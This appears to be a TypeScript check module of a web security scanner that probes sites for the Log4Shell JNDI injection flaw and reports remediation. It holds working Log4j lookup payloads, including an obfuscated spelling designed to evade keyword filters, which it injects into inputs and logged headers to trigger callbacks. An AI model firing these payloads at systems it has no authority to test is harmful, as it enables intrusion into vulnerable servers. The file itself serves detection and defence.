import { callbackSpot } from '../../model/callbacks.ts';
import type { Candidate } from '../../model/candidate.ts';
import type { InputSurface } from '../../model/surface.ts';
import { normaliseRoute } from '../../probe/routes.ts';
import { type CheckContext, defineCheck, notApplicable, notRun } from '../contract.ts';
import { samplePages } from '../inputs/at-most.ts';
import {
  type Awaited,
  type CallbackWay,
  type Called,
  calledExperiment,
  expectAll,
  hear,
  heard,
  sendWays,
} from '../inputs/callback-look.ts';
import { inputAction, type OpenedInput } from '../inputs/input-request.ts';
import { inParallel } from '../inputs/parallel.ts';
import { inputsToProbe, loginNames } from '../inputs/probe-inputs.ts';
import { fingerprintSite, identifiesPlatform } from '../pages/fingerprint-host.ts';
import { unlessKnownDataOnly } from './data-only.ts';
import { fewOfKind, lookAtEach } from './look-at-each.ts';

type LookedUpName = Called<CallbackWay> & { detail: string };

const maxInputs = 300;
/** Of a site with more of them each is sent both spellings in one value. */
const manyInputs = 60;
/** One filter logs the headers of all pages. */
const maxPages = 3;

/** Headers that applications and servers write to a log. */
const loggedHeaders = [
  'User-Agent',
  'Referer',
  'X-Forwarded-For',
  'X-Forwarded-Host',
  'X-Real-IP',
  'X-Client-IP',
  'X-Api-Version',
  'X-Request-Id',
  'X-Requested-With',
  'Accept-Language',
] as const;

type WriteLookup = (address: string, service?: string) => string;

/** A lookup of a name in a directory, plain and in a spelling that a look for the word misses. Source: Apache Log4j 2 "Lookups", CVE-2021-44228. */
const spellings: readonly WriteLookup[] = [
  (address, service = 'jndi') => `\${${service}:ldap://${address}}`,
  (address, service = 'jndi') =>
    `\${\${lower:${service.slice(0, 1)}}${service.slice(1, 3)}\${lower:${service.slice(3)}}:\${lower:l}d\${lower:a}p://${address}}`,
];

const together: WriteLookup = (address, service) => spellings.map((write) => write(address, service)).join(' ');

/** What is logged is looked up in the directory that it names. Source: CWE-917, CVE-2021-44228. */
export const jndi = defineCheck<LookedUpName>({
  id: 'injection.jndi',
  title: 'JNDI injection (Log4Shell)',
  cwe: 917,
  owasp: 'A05:2025',
  // That the directory is asked was shown; what is done with its answer depends on the version of Java and the classes that are there.
  cvss: 'CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:C/C:H/I:H/A:H',
  depth: 'standard',
  visitors: 'each',
  risk: 'safe',
  cost: 3,

  async detect(context) {
    const { callbacks, surface } = context;
    if (!callbacks)
      return notRun('no_callback_listener', 'there is no listener for callbacks (CALLBACK_HOST is not set)');
    const stacks = await fingerprintSite(context);
    const isJava = stacks.has('java');
    if (identifiesPlatform(stacks) && !isJava)
      return notApplicable('The site is made with another language than Java.');
    const inHeaders = await lookAtHeaders(context, callbacks.host);
    const inputs = [...loginNames(surface), ...inputsToProbe(surface)];
    const written = !isJava ? spellings.slice(0, 1) : inputs.length > manyInputs ? [together] : spellings;
    const ways = (input: OpenedInput) => waysFor(input, callbacks.host, written);
    const sampled = await lookAtEach<LookedUpName | Awaited<CallbackWay>>(
      context,
      inputs,
      maxInputs,
      unlessKnownDataOnly(context, (input) => sendWays(context, input, ways(input))),
      fewOfKind,
    );
    const inInputs = await heard<LookedUpName, CallbackWay>(context, sampled, (called) => ({ ...called, detail }));
    return { candidates: [...inHeaders, ...inInputs.candidates], omitted: inInputs.omitted };
  },

  confirm: (_context, { data }) =>
    data &&
    calledExperiment(data, {
      sent: 'The value is a lookup in a directory of ours, under a random word that nothing else contains.',
      called: 'The server asks that directory for the word.',
      control: 'With the name of the service misspelt nothing is looked up.',
    }),

  explain: {
    description:
      'The application evaluates lookups in what it logs: the server asked a directory of the audit for an entry that a value of the request named, as Log4j 2 does before version 2.17.',
    impact:
      'Whoever can send the value has the server load objects from a directory of theirs, which in many versions of Java runs their code, and can read environment variables with passwords and keys by putting them into the name.',
    sends:
      'Where nothing shows another language than Java, sends each input a lookup that names our listener, in a second spelling on sites of Java, and ten headers of up to 3 pages at once. The listener has no entry for any name.',
    proves:
      'The server calls the listener under a word that only the value held, twice with new words; with the name of the service misspelt nobody calls. What an entry would do was not tried.',
    remedy:
      'Update Log4j to 2.17.1 or newer (2.12.4 for Java 7, 2.3.2 for Java 6). Until then take the class `org/apache/logging/log4j/core/lookup/JndiLookup.class` out of the archive `log4j-core`. Never give `InitialContext.lookup` what comes from outside. Let servers open no connections to the internet that they do not need.',
    references: [
      'CWE-917: https://cwe.mitre.org/data/definitions/917.html',
      'CVE-2021-44228: https://www.cve.org/CVERecord?id=CVE-2021-44228',
      'Apache Log4j security: https://logging.apache.org/security.html',
    ],
  },
});

const detail = 'The server asked a directory of the audit for the name in the value.';

function waysFor(input: OpenedInput, host: string, written: readonly WriteLookup[] = spellings): CallbackWay[] {
  const spot = callbackSpot(host, '‹callback›');
  return written.map((write) => ({
    action: inputAction(input, write(spot)),
    inert: inputAction(input, write(spot, 'jndq')),
  }));
}

/** All headers of a page at once, each with a word of its own. @throws ProbeError */
async function lookAtHeaders(context: CheckContext, host: string): Promise<Candidate<LookedUpName>[]> {
  const { callbacks, http, surface } = context;
  if (!callbacks || context.visitor !== undefined) return [];
  const shown = surface.pages.filter(({ status, contentType }) => status < 400 && /html|json/.test(contentType));
  const pages = samplePages(context, shown, maxPages, 'one filter logs the headers of all');
  const sent = await inParallel(pages, maxPages, async ({ url }) => {
    const tried = loggedHeaders.map((name) => {
      const token = callbacks.newToken();
      const value = spellings[0]?.(callbackSpot(host, token)) ?? '';
      return { token, value, input: headerOf(url, name) };
    });
    await http.get(url, { headers: tried.map(({ input, value }) => [input.parameter, value] as const), fresh: true });
    return tried;
  });
  const tried = sent.flat();
  const calls = await hear(
    context,
    tried.map(({ token }) => token),
  );
  const called = new Set(calls.map(({ token }) => token));
  const [loud, silent] = [
    tried.filter(({ token }) => called.has(token)),
    tried.filter(({ token }) => !called.has(token)),
  ];
  const candidate = ({ input }: (typeof tried)[number]): Candidate<LookedUpName> => {
    const [way] = waysFor(input, host);
    return {
      location: { url: input.url, parameter: input.parameter, parameterIn: 'header' },
      route: '/',
      detail,
      ...(way && { data: { input, way, detail } }),
    };
  };
  expectAll(
    context,
    silent.map((each) => ({ token: each.token, candidate: candidate(each) })),
  );
  return loud.map(candidate);
}

const headerOf = (url: string, parameter: string): InputSurface => ({
  ...{ method: 'GET', url, route: normaliseRoute(url), parameter, in: 'header', sample: '', others: [] },
});
